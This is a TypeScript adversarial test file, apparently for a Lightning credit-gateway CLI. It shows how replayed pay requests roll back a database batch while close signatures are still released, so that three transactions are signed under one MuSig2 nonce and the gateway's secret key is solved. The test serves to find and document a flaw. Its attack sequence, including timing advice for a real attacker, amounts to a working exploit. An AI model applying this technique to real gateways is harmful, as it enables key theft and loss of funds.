/**
 * ADVERSARIAL (built CLI): `serve gateway --lightning-rpc` releases answers whose transaction was
 * rolled back, so one mint nonce signs two different close transactions — both handed to the user.
 *
 * Why (library level, deterministic: shared-connection-rollback.test.ts): every POST
 * /v1/gateway/pay whose job is still undecided runs `payOnLightning` → `gatewayInFlight` →
 * `CreditCommand.withMintView`, which opens a SECOND SqliteMintStore on the process's ONE shared
 * connection and ends with `store.abandon()` = `db.rollback()`: the service's open group-commit
 * batch is rolled back under it. MintBatch's next flush calls `commit()`, which returns quietly
 * (`StateDb.commit`: `if (!this.batch) return`), and releases every answer of that batch.
 *
 * The other party here is a device AND a credit user of the same gateway (a gateway is a credit
 * mint on device channels; it serves the credit routes). The device keeps one payment in flight
 * (its node says "pending") and replays its device/pay: each replay is a step of the batch, and
 * once answered its view rolls the batch back. The batch is made to reach its limit (256) with the
 * user's close-requests queued right behind: they are served in the same microtask run as the
 * replays' views; one completes, is rolled back, and is answered anyway. `credit/closed` carries
 * the close transaction FULLY signed under mint nonce N, while the database still holds the
 * contract open with N unused. The user sends a close at another fee rate under N (another
 * transaction) in the same position: signed, rolled back, answered; then a third, plainly: signed
 * and kept. Three signatures under one MuSig2 nonce, all in the user's hands: test code
 * (test/pg/musig-nonce-reuse.ts) solves the gateway's secret key (s = k1 + b·k2 + e·a·x).
 * The close served right after the rolled-back one meets the rollback mid-step: refused
 * E_INTERNAL ("no such savepoint: step0"), yet its writes after the rollback are committed.
 *
 * The order of arrival: each replay reaches the service's queue only after the gateway asked its
 * Lightning node `getinfo`; the scripted node here answers those calls when the test says, which
 * puts 256 replays and then the closes in the queue in one poll — an exact order the real attacker
 * must get by timing its own requests (its closes sent as the replays' getinfo answers come back;
 * probing with updates costs it nothing). Without that control (node answering at once, the closes
 * sent 30 or 80 ms after 300 replays) 30 rounds of 4 closes gave no hit here; with it, the first
 * round does. The rate limit (600 a minute per address by default) is 0 here for speed only.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, createServer, type Server, type Socket } from 'node:net';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { base64, hex } from '@scure/base';
import { ROOT, tempDir } from '../helpers.ts';
import { pipeline, type Run } from '../e2e/cli.ts';
import { openDemoChannel } from '../e2e/fixtures.ts';
import { startGateway, type GatewayService } from '../e2e/serve-process.ts';
import { CAPACITY, mintStage, REFUND, userStage, fundingPsbt, type Msg } from '../e2e/stream-credit.ts';
import { musigFields, solveMintKey, type Session } from '../pg/musig-nonce-reuse.ts';
import { musigTaprootOutput, publicKeyOf } from '../independent/keys.ts';
import { NOW, invoice, paymentHash } from '../lib/device/world.ts';
import { toHex } from '../../src/lib/bytes.ts';

const TERMS = join(ROOT, 'fixtures/policies/gateway-terms.json');
const POLICY = join(ROOT, 'fixtures/policies/device.json');
const MINT_KEY = readFileSync(join(ROOT, 'fixtures/keys/mint.key'), 'utf8').trim();
const USER_KEY = readFileSync(join(ROOT, 'fixtures/keys/user.key'), 'utf8').trim();
const MINT_PUB = publicKeyOf(hex.decode(MINT_KEY));
const TIP = '1000';
const ATTACKERS = 40;
const REPLAYS = 300;

type Attacker = { key: string; dir: string; contractId: string };

function last(results: Run[], type: string, what: string): Msg {
  results.forEach((r, i) => {
    if (r.status !== 0) throw new Error(`${what}: stage ${i} exited ${r.status}: ${r.stderr}`);
  });
  const msg = JSON.parse(results.at(-1)!.stdout) as Msg;
  if (msg.type !== type) throw new Error(`${what}: expected ${type}, got ${results.at(-1)!.stdout}`);
  return msg;
}

/** What a monitoring login reads of the gateway's state (read-only). */
function readMint<T>(mintDir: string, fn: (db: Database.Database) => T): T {
  const db = new Database(join(mintDir, 'regtest', 'state.sqlite'), { readonly: true, fileMustExist: true });
  try {
    return fn(db);
  } finally {
    db.close();
  }
}
const mintRow = (mintDir: string, id: string) => readMint(mintDir, (db) => {
  const row = db.prepare('SELECT record FROM contracts WHERE contract_id = ?').get(id) as { record: string } | undefined;
  return row ? (JSON.parse(row.record) as Msg) : undefined;
});
const nonceConsumed = (mintDir: string, pubnonceHex: string) => readMint(mintDir, (db) =>
  (db.prepare('SELECT consumed FROM nonces WHERE id = ?').get(createHash('sha256').update(pubnonceHex).digest('hex').slice(0, 32)) as { consumed: number } | undefined)?.consumed);

/**
 * The device's Lightning node (a scripted lightning-rpc socket): `listpays` says the toll is
 * pending; `getinfo` answers at once, or — while `holding` — is kept until `release(n)`.
 */
class DeviceNode {
  server!: Server;
  holding = false;
  held: { s: Socket; id: unknown }[] = [];
  async start(socket: string): Promise<void> {
    this.server = createServer((s) => {
      let buf = '';
      s.on('error', () => {});
      s.on('data', (d) => {
        buf += d.toString();
        let req: { id: unknown; method: string };
        try {
          req = JSON.parse(buf) as typeof req;
        } catch {
          return;
        }
        buf = '';
        if (req.method === 'getinfo' && this.holding) this.held.push({ s, id: req.id });
        else if (req.method === 'getinfo') this.answer(s, req.id, { network: 'regtest', blockheight: 1000 });
        else if (req.method === 'listpays') this.answer(s, req.id, { pays: [{ status: 'pending', payment_hash: toHex(paymentHash(0)), created_at: NOW }] });
        // pay: never answered (not reached: the payment is pending before it).
      });
    });
    await new Promise<void>((res) => this.server.listen(socket, res));
  }
  answer(s: Socket, id: unknown, result: unknown): void {
    s.write(JSON.stringify({ jsonrpc: '2.0', id, result }) + '\n\n');
  }
  releaseOne(): void {
    const h = this.held.shift();
    if (h) this.answer(h.s, h.id, { network: 'regtest', blockheight: 1000 });
  }
}

/** A POST sent whole but for its last byte, which `finish()` sends; `answer` is the HTTP body (and status). */
function heldPost(url: string, path: string, body: string): { finish: () => void; answer: Promise<{ status: number; text: string }> } {
  const u = new URL(url);
  const bytes = Buffer.from(body);
  const s = connect({ host: u.hostname, port: Number(u.port) });
  s.setNoDelay(true);
  s.write(`POST ${path} HTTP/1.1\r\nHost: ${u.host}\r\nContent-Type: application/json\r\nContent-Length: ${bytes.length}\r\nConnection: close\r\n\r\n`);
  s.write(bytes.subarray(0, bytes.length - 1));
  let raw = '';
  s.on('data', (d) => (raw += d.toString()));
  const answer = new Promise<{ status: number; text: string }>((res) => s.on('close', () => {
    const status = Number(/^HTTP\/1\.1 (\d+)/.exec(raw)?.[1] ?? 0);
    res({ status, text: raw.slice(raw.indexOf('\r\n\r\n') + 4) });
  }));
  return { finish: () => s.write(bytes.subarray(bytes.length - 1)), answer };
}

describe('serve gateway --lightning-rpc: a device/pay replay rolls the service\'s batch back, and the batch\'s answers leave anyway', () => {
  let root: { path: string; cleanup: () => void };
  let svc: GatewayService;
  const node = new DeviceNode();
  const mintDir = () => join(root.path, 'mint');
  const attackers: Attacker[] = [];

  beforeAll(async () => {
    root = tempDir('offchain-adv-gw-rollback-');
    openDemoChannel(root.path); // mint/ (the gateway) and user/ (the device), offer.json
    const offerPath = join(root.path, 'offer.json');
    // The attacker's credit contracts on the same gateway, each on its own funding outpoint.
    for (let i = 0; i < ATTACKERS; i++) {
      const key = hex.encode(createHash('sha256').update(`adv attacker ${i}`).digest());
      const out = musigTaprootOutput([publicKeyOf(hex.decode(key)), MINT_PUB]);
      const user = { key, dir: join(root.path, `attacker-${i}`) };
      const opened = last(await pipeline([
        userStage(user, {}, 'open-credit', '--role', 'user', '--offer', offerPath, '--tip-height', TIP, '--refund-address', REFUND),
        mintStage(mintDir(), {}, 'open-credit', '--role', 'mint', '--tip-height', TIP),
        userStage(user, {}, 'open-credit', '--role', 'user'),
      ], fundingPsbt(out.script, `adv ${i}`)), 'credit/opened', `open ${i}`);
      attackers.push({ ...user, contractId: opened.contract_id });
    }
    const socket = join(root.path, 'lightning-rpc');
    await node.start(socket);
    svc = await startGateway(['--terms', TERMS, '--now', String(NOW), '--tip-height', TIP, '--confirmations', '1', '--key-env', 'MINT_KEY', '--state-dir', mintDir(),
      '--lightning-rpc', socket, '--pay-timeout', '2', '--rate-limit', '0', '--operator-listen', '127.0.0.1:0'], { MINT_KEY });
  }, 600_000);

  afterAll(async () => {
    await svc?.stop('SIGKILL');
    await new Promise<void>((res) => (node.server ? node.server.close(() => res()) : res()));
    root?.cleanup();
  });

  /**
   * One round of the attack: `closes` (close-request messages) sent whole but for their last byte;
   * REPLAYS device/pay replays, each held at the gateway's getinfo by the device's node; then at
   * once, 254 replays released to the service's queue, the closes (each after one more replay),
   * the rest of the replays. The closes' HTTP answers.
   */
  async function round(pay: string, closes: Msg[]): Promise<{ status: number; text: string }[]> {
    const held = closes.map((c) => heldPost(svc.public, '/v1/credit/close', JSON.stringify(c)));
    node.holding = true;
    const replays = Array.from({ length: REPLAYS }, () => fetch(`${svc.public}/v1/gateway/pay`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: pay }).then((r) => r.text(), () => ''));
    for (let t = 0; node.held.length < REPLAYS && t < 600; t++) await new Promise((r) => setTimeout(r, 50));
    expect(node.held.length).toBe(REPLAYS);
    node.holding = false;
    for (let i = 0; i < 254; i++) node.releaseOne();
    for (const h of held) {
      node.releaseOne();
      h.finish();
    }
    while (node.held.length > 0) node.releaseOne();
    const answers = await Promise.all(held.map((h) => h.answer));
    await Promise.all(replays);
    return answers;
  }

  /** A close-request of attacker `a` at `feeRate`, made from a copy of its state directory as it was before any close (`snapshot`). */
  async function closeFrom(a: Attacker, snapshot: string, feeRate: string): Promise<Msg> {
    const dir = `${a.dir}-close-${feeRate}`;
    rmSync(dir, { recursive: true, force: true });
    cpSync(snapshot, dir, { recursive: true });
    return last(await pipeline([userStage({ key: a.key, dir }, {}, 'credit', 'close', '--role', 'user', '--start', '--fee-rate', feeRate)], ''), 'credit/close-request', `close at ${feeRate} sat/vB`);
  }

  /** A close answered credit/closed whose contract the database still holds open, unsettled: answered from a rolled-back batch. */
  const rolledBack = (a: Attacker, ans: { status: number; text: string }) => {
    if (ans.status !== 200) return undefined;
    const closed = JSON.parse(ans.text) as Msg;
    const row = mintRow(mintDir(), a.contractId);
    return closed.type === 'credit/closed' && row?.status === 'open' && row.settlement === undefined ? closed : undefined;
  };

  const mintNonceOf = (psbt: string): string => toHex(musigFields(base64.decode(psbt)).pubnonces.get(toHex(MINT_PUB))!);

  it('credit/closed leaves for closes the database never kept: three close transactions signed under one mint nonce, and test code solves the gateway\'s secret key', async () => {
    // The device's toll, in flight (its node says pending): 503 E_PAYMENT_PENDING, the job stored.
    const inv = join(root.path, 'toll.bolt11');
    writeFileSync(inv, invoice(0, 1_000_000n) + '\n');
    const payRun = (await pipeline([{ args: ['device', 'pay', '--invoice', inv, '--policy', POLICY, '--terms', TERMS, '--now', String(NOW), '--tip-height', TIP, '--key-env', 'USER_KEY', '--state-dir', join(root.path, 'user')], env: { USER_KEY } }], ''))[0]!;
    expect(payRun.status, payRun.stderr).toBe(0);
    const pay = payRun.stdout;
    const first = await fetch(`${svc.public}/v1/gateway/pay`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: pay });
    expect([first.status, ((await first.json()) as Msg).code]).toEqual([503, 'E_PAYMENT_PENDING']);

    // The candidate: an attacker with signed closes under one mint nonce N, the sessions kept for the solver.
    let candidate: { a: Attacker; snapshot: string; N: string; sessions: Session[] } | undefined;
    let twoUnderOneNonce = false;
    // A close refused E_INTERNAL ("no such savepoint": the rollback came in the middle of its step) whose record the database holds anyway.
    let refusedButWritten = 0;
    const log: string[] = [];
    let next = 0;
    const sessionOf = (a: Attacker, request: Msg, closed: Msg): Session => ({
      psbt: base64.decode(request.psbt as string), signedTx: closed.hex as string,
      prevout: { amount: CAPACITY, script: musigTaprootOutput([publicKeyOf(hex.decode(a.key)), MINT_PUB]).script },
    });
    for (let r = 0; r < 10 && !(candidate && candidate.sessions.length >= 2) && next + 3 <= attackers.length; r++) {
      // The candidate's next close (another fee rate: another transaction under N) first, then new attackers' first closes.
      // (Measured: of the closes queued right behind the limit, the second completes just before the views' rollback.)
      const entries: { a: Attacker; snapshot: string; msg: Msg; theirs: boolean }[] = [];
      while (entries.length < 4 && next < attackers.length) {
        if (entries.length === 1 && candidate) {
          entries.push({ a: candidate.a, snapshot: candidate.snapshot, msg: await closeFrom(candidate.a, candidate.snapshot, String(2 + candidate.sessions.length)), theirs: true });
          continue;
        }
        const a = attackers[next++]!;
        const snapshot = `${a.dir}-before-close`;
        cpSync(a.dir, snapshot, { recursive: true });
        entries.push({ a, snapshot, msg: await closeFrom(a, snapshot, '2'), theirs: false });
      }
      const answers = await round(pay, entries.map((e) => e.msg));
      log.push(`round ${r}: ${answers.map((x, i) => `${entries[i]!.theirs ? 'candidate' : 'new'} ${x.status} ${x.status === 200 ? (rolledBack(entries[i]!.a, x) ? 'ROLLED BACK' : 'kept') : `${x.text.slice(0, 300).replace(/\s+/g, " ")} db:${mintRow(mintDir(), entries[i]!.a.contractId)?.status}`}`).join(', ')}`);
      for (const [i, ans] of answers.entries()) {
        const e = entries[i]!;
        if (ans.status === 500 && /no such savepoint/.test(ans.text) && mintRow(mintDir(), e.a.contractId)?.status === 'closing') refusedButWritten++;
        const closed = rolledBack(e.a, ans);
        if (e.theirs) {
          // Signed again under N: two different signatures under one nonce, whatever the database kept.
          const again = JSON.parse(ans.text) as Msg;
          if (again.type === 'credit/closed') {
            expect(mintNonceOf(e.msg.psbt as string)).toBe(candidate!.N);
            expect(again.txid).not.toBe(candidate!.sessions[0]!.signedTx);
            twoUnderOneNonce = true;
          }
          if (closed) candidate!.sessions.push(sessionOf(e.a, e.msg, closed));
          else candidate = undefined; // kept: N is consumed now; start over with another attacker
        } else if (closed && !candidate) {
          const N = mintNonceOf(e.msg.psbt as string);
          // The database: the contract open, N unused — yet the close left fully signed under N.
          expect(nonceConsumed(mintDir(), N)).toBe(0);
          candidate = { a: e.a, snapshot: e.snapshot, N, sessions: [sessionOf(e.a, e.msg, closed)] };
        }
      }
    }
    if (process.env.ADV_DEBUG) console.log(log.join('\n'));
    expect(candidate?.sessions.length ?? 0, `rounds: ${log.join('; ')}`).toBeGreaterThanOrEqual(2);
    expect(twoUnderOneNonce || candidate!.sessions.length >= 2).toBe(true);
    expect(refusedButWritten, 'a refused close whose writes after the rollback were committed').toBeGreaterThan(0);
    const c = candidate!;
    expect(nonceConsumed(mintDir(), c.N)).toBe(0);
    // A third close under N, sent plainly: signed and kept (N consumed only now).
    const third = await closeFrom(c.a, c.snapshot, '9');
    expect(mintNonceOf(third.psbt as string)).toBe(c.N);
    const r3 = await fetch(`${svc.public}/v1/credit/close`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(third) });
    const closed3 = JSON.parse(await r3.text()) as Msg;
    expect([r3.status, closed3.type]).toEqual([200, 'credit/closed']);
    expect(nonceConsumed(mintDir(), c.N)).toBe(1);
    c.sessions.push(sessionOf(c.a, third, closed3));
    // Three fully signed close transactions of one contract and state, three messages, one mint nonce: the key.
    expect(new Set(c.sessions.map((x) => x.signedTx)).size).toBe(3);
    const x = solveMintKey(c.sessions, publicKeyOf(hex.decode(c.a.key)), MINT_PUB);
    expect(x, 'the mint key solved from the three closes').toBeDefined();
    expect(x!.toString(16).padStart(64, '0')).toBe(MINT_KEY);
  }, 900_000);
});
